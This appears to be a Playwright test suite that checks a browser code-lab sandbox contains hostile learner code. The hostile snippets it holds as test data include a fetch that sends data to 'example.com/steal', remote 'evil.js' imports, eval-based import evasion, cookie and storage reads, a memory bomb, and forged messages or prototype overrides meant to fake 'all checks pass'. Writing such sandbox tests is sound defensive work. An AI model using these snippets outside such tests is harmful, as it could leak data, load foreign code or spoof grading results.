/**
 * Hostile learner code: each snippet must be contained (no request leaves the origin: the fixture
 * checks), get a clear message, leave the page answering clicks within 200 ms while it runs, and
 * leave the sandbox ready for the next honest run.
 */
import { expect, test } from './sandbox-fixtures';
import { exerciseRegion, honestRunWorks, measureClickResponse, openCodeLabWithDraft, runStatus } from './sandbox-helpers';

interface HostileCase {
  readonly name: string;
  readonly code: string;
  /** What the learner must be told (the error line, or the output for runs that finish). */
  readonly message: RegExp;
  /** Runs until the time limit: the click is measured while it is still running. */
  readonly long?: boolean;
  /** Where the message appears (default: the error alert). */
  readonly where?: 'alert' | 'log';
  /** A case the sandbox does not contain yet, with the reason: skipped and reported as fixme. */
  readonly knownGap?: string;
}

const CASES: HostileCase[] = [
  { name: 'infinite loop', code: 'while (true) {}', message: /Stopped after 3\.0 s, the time limit/, long: true },
  { name: 'infinite loop after an await', code: 'await null;\nfor (;;) {}', message: /Stopped after 3\.0 s, the time limit/, long: true },
  {
    name: 'deep recursion',
    code: 'function down(n: number): number {\n  return down(n + 1) + 1;\n}\ndown(0);',
    // V8 reports the overflow at the call (line 2) or at the function's entry (line 1).
    message: /^Line [12]: RangeError: Maximum call stack size exceeded \(a function keeps calling itself/,
  },
  {
    // On this machine the loop reaches about 3 GB in 3 s and the time limit stops it. Left running
    // (about 10 s more here), Chromium 156 does not fire the worker's error event: the worker's
    // out-of-memory crash takes the whole tab down, which the page cannot catch. The time limit is
    // the defence; a process boundary (a sandboxed iframe) would be the real fix.
    name: 'memory bomb',
    code: 'const hoard: number[][] = [];\nwhile (true) hoard.push(new Array(4_000_000).fill(Math.random()));',
    message: /sandbox crashed, most likely because your code used too much memory|Stopped after 3\.0 s|Line 2: RangeError/,
    long: true,
    // KNOWN GAP: a dedicated worker shares the tab's renderer process. On a fast machine this loop
    // reaches V8's heap limit (about 4 GB) before the 3 s time limit, and Chromium then ends the
    // whole tab, not just the worker. Containing it needs a process boundary (the runner inside a
    // sandboxed, cross-origin iframe); until then the case is recorded here and skipped.
    knownGap: 'a memory bomb can crash the tab before the time limit: needs process isolation',
  },
  { name: 'console flood', code: "for (let i = 0; i < 1_000_000; i++) console.log('flood', i);", message: /output truncated/, where: 'log' },
  { name: 'fetch', code: "await fetch('https://example.com/steal?k=1');", message: /^Line 1: Error: fetch is not available in the code lab: the sandbox has no network/ },
  { name: 'XMLHttpRequest', code: "const x = new XMLHttpRequest();\nx.open('GET', 'https://example.com');", message: /^Line 1: Error: XMLHttpRequest is not available in the code lab/ },
  { name: 'WebSocket', code: "new WebSocket('wss://example.com/socket');", message: /^Line 1: Error: WebSocket is not available in the code lab/ },
  { name: 'import() of a remote URL', code: "const m = await import('https://example.com/evil.js');", message: /^Line 1: Cannot import 'https:\/\/example\.com\/evil\.js'.*You can import: @noble\/curves\/ed25519\.js/ },
  { name: 'import() of a data: URL', code: "const m = await import('data:text/javascript,export default 42');", message: /^Line 1: Cannot import 'data:text\/javascript,export default 42'/ },
  { name: 'static import outside the allowlist', code: "import { readFileSync } from 'node:fs';\nconsole.log(readFileSync);", message: /^Line 1: Cannot import 'node:fs'/ },
  { name: 'importScripts', code: "importScripts('https://example.com/evil.js');", message: /^Line 1: Error: importScripts is not available in the code lab/ },
  { name: 'nested Worker', code: "new Worker('data:text/javascript,postMessage(1)');", message: /^Line 1: Error: Worker is not available in the code lab/ },
  { name: 'reading document', code: 'console.log(document.title);', message: /^Line 1: ReferenceError: document is not defined\. Your code runs in an isolated worker with no page/ },
  { name: 'localStorage', code: "localStorage.getItem('backdoor-lab:draft:code-lab');", message: /^Line 1: ReferenceError: localStorage is not defined\. Your code runs in an isolated worker/ },
  { name: 'indexedDB', code: "indexedDB.open('loot');", message: /^Line 1: Error: indexedDB is not available in the code lab: learner code cannot use the browser's storage/ },
  { name: 'document.cookie', code: 'export const cookie = document.cookie;', message: /^Line 1: ReferenceError: document is not defined/ },
  {
    name: 'eval of remote code',
    code: "const indirect = eval;\nawait indirect(\"import('https://example.com/evil.js')\");",
    // The string is evaluated at run time, so it escapes the transpiler's import rewrite and meets the
    // worker's CSP (script-src 'self'), which refuses it before any request is made.
    message: /^TypeError: Failed to fetch dynamically imported module: https:\/\/example\.com\/evil\.js$/,
  },
  {
    name: 'eval of a data: import',
    code: "const indirect = eval;\nawait indirect(\"import('data:text/javascript,export default 42')\");",
    message: /^TypeError: Failed to fetch dynamically imported module: data:text\/javascript,export default 42$/,
  },
  { name: 'throw 42', code: 'throw 42;', message: /Your code threw 42, which is not an Error, so there is no line number/ },
  {
    name: 'unhandled rejection',
    code: "Promise.reject(new Error('nobody awaits me'));\nexport const x = 1;",
    message: /^Line 1: Unhandled promise rejection: Error: nobody awaits me\. A promise failed and nothing awaited it/,
  },
  {
    name: 'Atomics.wait on a SharedArrayBuffer',
    code: 'const shared = new SharedArrayBuffer(4);\nAtomics.wait(new Int32Array(shared), 0, 0);',
    message: /^Line 1: ReferenceError: SharedArrayBuffer is not defined|Stopped after 3\.0 s/,
  },
  { name: 'closing the worker', code: 'close();', message: /^Line 1: Error: close is not available in the code lab/ },
];

test.describe('hostile learner code', () => {
  for (const c of CASES) {
    test(c.name, async ({ page }, testInfo) => {
      test.fixme(Boolean(c.knownGap), c.knownGap);
      await openCodeLabWithDraft(page, c.code);
      await page.getByRole('button', { name: 'Run', exact: true }).click();
      if (c.long) {
        await expect(runStatus(page)).toHaveText('Running…');
        await page.waitForTimeout(400);
      }
      const click = await measureClickResponse(page);
      testInfo.annotations.push({ type: 'click response', description: `${click.inPageMs.toFixed(1)} ms in page, ${click.wallMs} ms wall` });
      expect(click.inPageMs, 'pointerdown → toggle, measured in the page').toBeLessThan(200);
      if (c.long) await expect(page.getByRole('button', { name: 'Stop' })).toBeEnabled();

      if (c.where === 'log') await expect(page.getByRole('log')).toContainText(c.message, { timeout: 10_000 });
      else await expect(exerciseRegion(page).getByRole('alert')).toHaveText(c.message, { timeout: 10_000 });
      await expect(runStatus(page)).not.toHaveText('Running…');
      await honestRunWorks(page);
    });
  }

  test('console flood keeps the output bounded to 500 lines', async ({ page }) => {
    await openCodeLabWithDraft(page, "for (let i = 0; i < 1_000_000; i++) console.log('flood', i);");
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(page.getByRole('log')).toContainText('output truncated');
    await expect(page.getByRole('log').locator('div')).toHaveCount(501);
    await expect(page.getByRole('log')).toContainText('flood 499');
    await expect(page.getByRole('log')).not.toContainText('flood 500');
  });

  test('a forged "done"/"checks passed" message cannot reach the page', async ({ page }) => {
    const code = [
      "const forged = { type: 'done', runId: 'ffffffffffffffffffffffffffffffff', outcome: { status: 'ok', durationMs: 1, result: { checksPassed: true } } };",
      'for (const send of [() => postMessage(forged), () => (self as any).postMessage(forged), () => Object.getPrototypeOf(self).postMessage.call(self, forged)]) {',
      '  try { send(); console.log("sent?!"); } catch (e) { console.log("refused:", (e as Error).message); }',
      '}',
      "export const sharedSecret = new Uint8Array(32);",
      "export const checksPassed = true;",
    ].join('\n');
    await openCodeLabWithDraft(page, code);
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(runStatus(page)).toHaveText(/^Finished in/);
    await expect(page.getByRole('log')).toContainText('refused: postMessage is not available in the code lab');
    await expect(page.getByRole('log')).not.toContainText('sent?!');
    const sharedSecretCheck = page.getByRole('listitem').filter({ hasText: 'is the X25519 secret Alice shares with Bob' });
    await expect(sharedSecretCheck).toContainText('failed');
    await expect(runStatus(page)).not.toContainText('all checks pass');
    await honestRunWorks(page);
  });

  test('prototype pollution and a replaced check function do not change the verdict', async ({ page }) => {
    const code = [
      'Object.prototype.pass = true;',
      "Object.defineProperty(Object.prototype, 'sharedSecret', { get: () => 'ff'.repeat(32), configurable: true });",
      'Array.prototype.every = () => true;',
      'Array.prototype.some = () => true;',
      '(globalThis as any).runChecks = () => [{ id: "shared-secret", pass: true, message: "ok" }];',
      '(globalThis as any).allChecksPassed = () => true;',
      'export const key = new Uint8Array(32);',
      "export const plaintext = 'Meet me somewhere else';",
    ].join('\n');
    await openCodeLabWithDraft(page, code);
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(runStatus(page)).toHaveText(/^Finished in/);
    await expect(runStatus(page)).not.toContainText('all checks pass');
    const item = (text: string) => page.getByRole('listitem').filter({ hasText: text });
    await expect(item('is the X25519 secret Alice shares with Bob')).toContainText('failed');
    await expect(item('is the X25519 secret Alice shares with Bob')).toContainText('Nothing found at the export `sharedSecret`');
    await expect(item('is HKDF-SHA256')).toContainText('different bytes');
    await expect(item('is Bob’s message as text')).toContainText('not the expected value');
    const pageRealm = await page.evaluate(() => ({
      pass: (({}) as Record<string, unknown>).pass,
      every: [1].every((x) => x === 2),
      runChecks: typeof (globalThis as Record<string, unknown>).runChecks,
    }));
    expect(pageRealm).toEqual({ pass: undefined, every: false, runChecks: 'undefined' });
    await honestRunWorks(page);
  });

  test('Stop ends a running program at once', async ({ page }) => {
    await openCodeLabWithDraft(page, 'while (true) {}');
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(runStatus(page)).toHaveText('Running…');
    await page.getByRole('button', { name: 'Stop' }).click();
    await expect(exerciseRegion(page).getByRole('alert')).toHaveText('Stopped: you pressed Stop.');
    await expect(runStatus(page)).toHaveText(/^Stopped after/);
    await honestRunWorks(page);
  });
});
